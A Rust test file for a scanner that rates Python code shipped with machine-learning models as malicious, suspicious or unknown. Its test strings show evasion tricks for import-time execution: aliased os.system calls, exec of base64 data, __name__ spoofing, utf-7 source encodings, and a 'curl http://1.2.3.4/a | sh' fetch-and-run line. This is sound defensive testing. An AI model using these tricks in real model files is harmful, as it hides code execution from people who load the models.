//! Code beside a model, from its text to the verdict.

use std::fmt::Write as _;

use super::*;

fn verdict(code: &str) -> Verdict {
    let mut inspection = Inspection::new(code.len() as u64);
    inspect(&mut inspection, code, code.len() as u64, Role::Loaded);
    inspection.into_parts().0
}

#[test]
fn what_runs_on_import_is_worse_than_what_a_function_does() {
    assert_eq!(verdict("import os\nos.system('id')\n"), Verdict::Malicious);
    assert_eq!(
        verdict("class M:\n    def f(self):\n        os.system('id')\n"),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict("class M:\n    x = eval('1')\n    def f(self):\n        pass\n"),
        Verdict::Malicious
    );
    assert_eq!(
        verdict("def f():\n    pass\nexec(b64decode(x))\n"),
        Verdict::Malicious
    );
}

#[test]
fn other_names_hide_nothing() {
    for code in [
        "from os import system\nsystem('id')\n",
        "import subprocess as sp\ndef f():\n    sp.run(['id'])\n",
        "import os as o\no.popen('id')\n",
        "g = getattr(__builtins__, 'ev' + 'al')\n",
        "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
    ] {
        assert!(verdict(code) >= Verdict::Suspicious, "{code}");
    }
    assert_eq!(
        verdict("from os import path\nimport os as o\nx = o.path.join(path.sep, 'a')\n"),
        Verdict::Unknown
    );
}

#[test]
fn patterns_take_out_of_a_value_what_they_bind() {
    for code in [
        "import os\nmatch os:\n    case object(system=s):\n        s('id')\n",
        "import os\nmatch os:\n    case int() | object(system=s):\n        s('id')\n",
        "import os\nmatch [1, os.system]:\n    case [_, s]:\n        s('id')\n",
        "import os\nmatch [1, os.system]:\n    case [1, *_] as a:\n        a[1]('id')\n",
        "import os\nmatch {'a': os.system}:\n    case {'a': s}:\n        s('id')\n",
        "import os\nmatch os:\n    case (object(system=s) as m):\n        m.popen('id')\n",
    ] {
        assert_eq!(verdict(code), Verdict::Malicious, "{code}");
    }
    for code in [
        "import os\nmatch os:\n    case object(sep=s):\n        len(s)\n",
        "match ['id']:\n    case [system]:\n        print(system)\n",
    ] {
        assert_eq!(verdict(code), Verdict::Unknown, "{code}");
    }
}

#[test]
fn statements_of_one_line_are_read_one_by_one() {
    for code in [
        "import os; os.system('id')\n",
        "import os as o; o.system('id')\n",
        "x = 1; from os import system; system('id')\n",
        "if True: from os import system as s\ns('id')\n",
        "class A: import os as o; o.popen('id')\n",
        "from os import (\n    path,\n    system,\n)\nsystem('id')\n",
        "from os \\\n    import system\nsystem('id')\n",
        "from os import(system)\nsystem('id')\n",
        "from os import *\nsystem('id')\n",
        "x = 'a \\\n'; import os; os.system('id')\n",
        "x = 'a \\\nfrom b import ('\nfrom os import system\nsystem('id')\n",
    ] {
        assert_eq!(verdict(code), Verdict::Malicious, "{code}");
    }
    for code in [
        "x = 'import os; os.system(1)'; y = 2\n",
        "import os; x = 1 # ; os.system('id')\n",
        "import ctypes.util; from ctypes.util import find_library\n",
        "def f(): import os; return os.getcwd()\n",
    ] {
        assert_eq!(verdict(code), Verdict::Unknown, "{code}");
    }
}

#[test]
fn bodies_of_functions_on_the_line_of_their_head_do_not_run_on_import() {
    for code in [
        "def f(): os.system('id')\n",
        "def f(): x = 1; os.system('id')\n",
        "async def f(): os.system('id')\n",
        "class A:\n    async def f(self): os.system('id')\n",
        "def f():\n    @eval('x')\n    def g(): pass\n",
    ] {
        assert_eq!(verdict(code), Verdict::Suspicious, "{code}");
    }
}

#[test]
fn decorators_run_on_import() {
    for code in [
        "@eval('x')\ndef f(): pass\n",
        "class A:\n    @exec('x')\n    async def f(self):\n        pass\n",
    ] {
        assert_eq!(verdict(code), Verdict::Malicious, "{code}");
    }
    assert_eq!(
        verdict("@torch.no_grad()\ndef f(): pass\n@dataclass\nclass A: pass\n"),
        Verdict::Unknown
    );
}

#[test]
fn many_names_hide_no_call() {
    use std::fmt::Write as _;
    let mut code = String::from("from subprocess import DEVNULL");
    for n in 0..100 {
        let _ = write!(code, ", PIPE as p{n}");
    }
    code.push_str("\nfrom os import system as s\n");
    assert_eq!(verdict(&code), Verdict::Unknown);
    code.push_str("s('id')\n");
    assert_eq!(verdict(&code), Verdict::Malicious);
}

#[test]
fn many_calls_in_functions_hide_none_that_runs_on_import() {
    let mut code = "def f(): os.system('id')\n".repeat(2 * MAX_TOLD);
    assert_eq!(verdict(&code), Verdict::Suspicious);
    code.push_str("exec(x)\n");
    assert_eq!(verdict(&code), Verdict::Malicious);
}

#[test]
fn ordinary_model_code_is_unknown() {
    let code = concat!(
        "\"\"\"Runs `os.system(...)`? No.\"\"\"\n",
        "import os\nimport subprocess\nimport torch\n",
        "# exec(x)\n",
        "class Net(torch.nn.Module):\n",
        "    def forward(self, x):\n",
        "        self.eval()\n",
        "        return torch.compile(x)\n",
        "    def save_vocabulary(self, path):\n",
        "        with open(os.path.join(path, 'vocab.txt'), 'w') as f:\n",
        "            f.write('exec(1)')\n",
        "        image = requests.get(url)\n",
    );
    assert_eq!(verdict(code), Verdict::Unknown);
}

#[test]
fn encodings_that_hide_what_is_written_are_told() {
    assert_eq!(
        verdict("# -*- coding: utf_7 -*-\nx = 1\n"),
        Verdict::Malicious
    );
    assert_eq!(
        verdict("#!/usr/bin/python\n# coding=unicode_escape\n"),
        Verdict::Malicious
    );
    assert_eq!(
        verdict("# -*- coding: utf-8 -*-\n# Decoding: idna is none\n"),
        Verdict::Unknown
    );
    // Python takes the first that names one.
    assert_eq!(
        verdict("# coding coding: utf-7\nx = 1\n"),
        Verdict::Malicious
    );
    assert_eq!(
        verdict("# coding:! coding=\tutf-7\nx = 1\n"),
        Verdict::Malicious
    );
    assert_eq!(
        verdict("# coding: utf-8 coding: utf-7\nx = 1\n"),
        Verdict::Unknown
    );
}

#[test]
fn what_is_computed_is_bounded() {
    let code = format!(
        "x = 'a' * 60000\n{}",
        "y = x.replace('b', 'c')\n".repeat(90_000)
    );
    assert_eq!(verdict(&code), Verdict::Suspicious);
    let code = "def f(): pass\n".repeat(100_000);
    assert_eq!(verdict(&code), Verdict::Unknown);
    let deep = format!("x = {}1{}\n", "[".repeat(190), "]".repeat(190));
    assert!(verdict(&deep) >= Verdict::Suspicious);
    let sum = format!(
        "x = '' {}\nimport os\nos.system('id')\n",
        "+ 'a'".repeat(900)
    );
    assert_eq!(verdict(&sum), Verdict::Malicious);
}

#[test]
fn depth_that_hides_in_a_text_or_a_line_that_goes_on_is_refused() {
    for code in [
        format!("x = f\"{{{}1}}\"\n", "-".repeat(3_000_000)),
        format!("x = {}1\n", "not \\\n".repeat(500_000)),
        format!("x = f'{{a'\n}};y = 1{}\n", "+1".repeat(500_000)),
        format!("x = f'{{a'\n}};y = {}\n", "(1,".repeat(500_000)),
    ] {
        assert_eq!(verdict(&code), Verdict::Suspicious, "{}", &code[..20]);
    }
}

#[test]
fn stars_without_end_hide_no_module() {
    let call = "from os import *\nsystem('id')\n";
    let code = format!("{}{call}", "from math import *\n".repeat(100));
    assert_eq!(verdict(&code), Verdict::Malicious);
    let many: Vec<String> = (0..100).map(|n| format!("from m{n} import *\n")).collect();
    assert_eq!(
        verdict(&format!("{}{call}", many.concat())),
        Verdict::Suspicious
    );
}

#[test]
fn a_name_that_the_code_gives_itself_guards_nothing() {
    let guard = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
    assert_eq!(verdict(guard), Verdict::Suspicious);
    for given in [
        "__name__ = '__main__'\n",
        "import x as __name__\n",
        "for __name__ in ['__main__']: pass\n",
        "a, __name__ = 1, '__main__'\n",
        "(__name__ := '__main__')\n",
        "globals()['__name__'] = '__main__'\n",
        "globals().update(__name__='__main__')\n",
        "globals().update({'__name__': '__main__'})\n",
        "def f():\n    global __name__\n    __name__ = '__main__'\nf()\n",
    ] {
        let code = format!("{given}{guard}");
        assert_eq!(verdict(&code), Verdict::Malicious, "{given}");
    }
    let loops = format!(
        "import os\nfor i in [0, 1]:\n    if __name__ == '__main__':\n        {}\n    __name__ = '__main__'\n",
        "os.system('id')"
    );
    assert_eq!(verdict(&loops), Verdict::Malicious);
    let other = format!("def f(): pass\nf.__name__ = 'g'\nx = f.__name__\n{guard}");
    assert_eq!(verdict(&other), Verdict::Suspicious);
}

#[test]
fn names_of_comprehensions_are_given_back() {
    let code = format!(
        "x = {:?}\ny = [a for a in x]\n",
        (0..500).collect::<Vec<_>>()
    );
    let code = format!("{code}{}", "y = [a for a in x]\n".repeat(200));
    assert_eq!(verdict(&code), Verdict::Unknown);
}

#[test]
fn a_character_across_the_bound_of_a_text_hides_none_of_it() {
    let call = "import os; os.system('curl http://1.2.3.4/a | sh')";
    for shift in 0..4 {
        let text = format!("{call}{}{}", "a".repeat(shift), "\u{1f600}".repeat(20_000));
        let code = format!("x = \"{text}\"\n");
        assert_eq!(verdict(&code), Verdict::Malicious, "{shift}");
    }
}

#[test]
fn names_of_code_that_loaders_import() {
    assert!(is_model_code("modeling_x.py") && is_model_code("handler.py"));
    assert!(!is_model_code("train.py") && !is_model_code("modeling_x.txt"));
}

/// Code that is made to cost time or memory, each of about so many bytes.
fn costly(len: usize) -> Vec<(&'static str, String)> {
    let lines = |head: &str, line: &str| {
        let count = len.saturating_sub(head.len()) / line.len();
        format!("{head}{}", line.repeat(count))
    };
    let numbers = format!("a=[{}]\n", "0,".repeat(3_000));
    let text = format!("a='{}'\n", "y".repeat(65_000));
    let fields = format!("a='{}'\n", "%s".repeat(64));
    let filled = format!(
        "{fields}t='{}'\nb=[{}]\n",
        "y".repeat(5_000),
        "t,".repeat(64)
    );
    let (mut lambdas, mut parameters) = (String::new(), String::new());
    for n in 1..40 {
        writeln!(lambdas, "a{n}=lambda:(a{0}(),a{0}())", n - 1).unwrap();
    }
    for n in 0..5_000 {
        write!(parameters, "p{n},").unwrap();
    }
    vec![
        ("arguments", {
            let stars = lines("", "*a,");
            format!("{numbers}f({stars})\n")
        }),
        ("percent", lines(&filled, "x=a%b\n")),
        ("format", {
            let call = format!("a.format({})\n", "'',".repeat(64));
            lines(&text, &call)
        }),
        (
            "lambdas",
            lines(&format!("a0=lambda:0\n{lambdas}"), "a39()\n"),
        ),
        (
            "held",
            lines(
                &format!("{numbers}f=lambda x:lambda:x\n"),
                "[f(b) for b in a]\n",
            ),
        ),
        (
            "parameters",
            lines(&format!("f=lambda {parameters}:0\n"), "f()\n"),
        ),
        ("copies", lines(&numbers, "[b for b in a]\n")),
        ("unpacked", lines(&text, "b,=a\n")),
        (
            "names",
            lines(
                &format!("import os\nx=os.{}\n", "n".repeat(len / 2)),
                "x.system()\n",
            ),
        ),
        ("growing", lines("import os\n", "x=os.a\nos=x\n")),
        ("nesting", lines("x=0\n", "x=[x]\n")),
    ]
}

#[test]
fn what_costs_more_than_its_size_is_given_up_and_told() {
    for (what, code) in costly(100_000) {
        let parsed = parse_unchecked(&code, ParseOptions::from(Mode::Module));
        let module = parsed.syntax().as_module().unwrap();
        let walk = Walk::of(&module.body, code.len());
        let cheap = what == "unpacked";
        assert_eq!(walk.is_whole(), cheap, "{what}");
        assert!(walk.scopes.len() < 100_000, "{what}: {}", walk.scopes.len());
        let told: usize = walk.findings.keys().map(|(_, what)| what.len()).sum();
        assert!(told < 1 << 20, "{what}: {told}");
        if !cheap {
            assert!(verdict(&code) >= Verdict::Suspicious, "{what}");
        }
    }
}

#[test]
fn lists_in_lists_do_not_use_up_the_stack() {
    let code = format!("x=0\n{}", "x=[x]\n".repeat(100_000));
    assert_eq!(verdict(&code), Verdict::Suspicious);
    let code = format!("x=0\n{}", "x=[x]\n".repeat(10));
    assert_eq!(verdict(&code), Verdict::Unknown);
}

#[test]
fn loading_another_file_is_no_more_than_unknown() {
    let code = "import joblib\nmodel = joblib.load('model.joblib')\n";
    let mut inspection = Inspection::new(code.len() as u64);
    inspect(&mut inspection, code, code.len() as u64, Role::Beside);
    let (verdict, reasons, _) = inspection.into_parts();
    assert_eq!(verdict, Verdict::Unknown);
    assert!(reasons[0].message.contains("has its own record"));
    assert_eq!(
        super::tests::verdict("def f(path):\n    return joblib.load(path)\n"),
        Verdict::Unknown
    );
}

#[test]
fn long_tables_hide_no_function() {
    let table = format!("t = [{}]\n", "0, ".repeat(10_000));
    assert_eq!(verdict(&table), Verdict::Unknown);
    let hiding = format!("t = [{}getattr]\n", "0, ".repeat(10_000));
    assert_eq!(verdict(&hiding), Verdict::Suspicious);
}

#[test]
fn compiled_code_is_unknown_where_loaders_run_code() {
    assert!(is_compiled("net.cpython-311.pyc") && is_compiled("NET.PYO"));
    assert!(!is_compiled("net.py"));
    let mut inspection = Inspection::new(16);
    compiled(&mut inspection, b"\xe3\xda\x05torch\xda\x04eval");
    assert_eq!(inspection.into_parts().0, Verdict::Unknown);
}
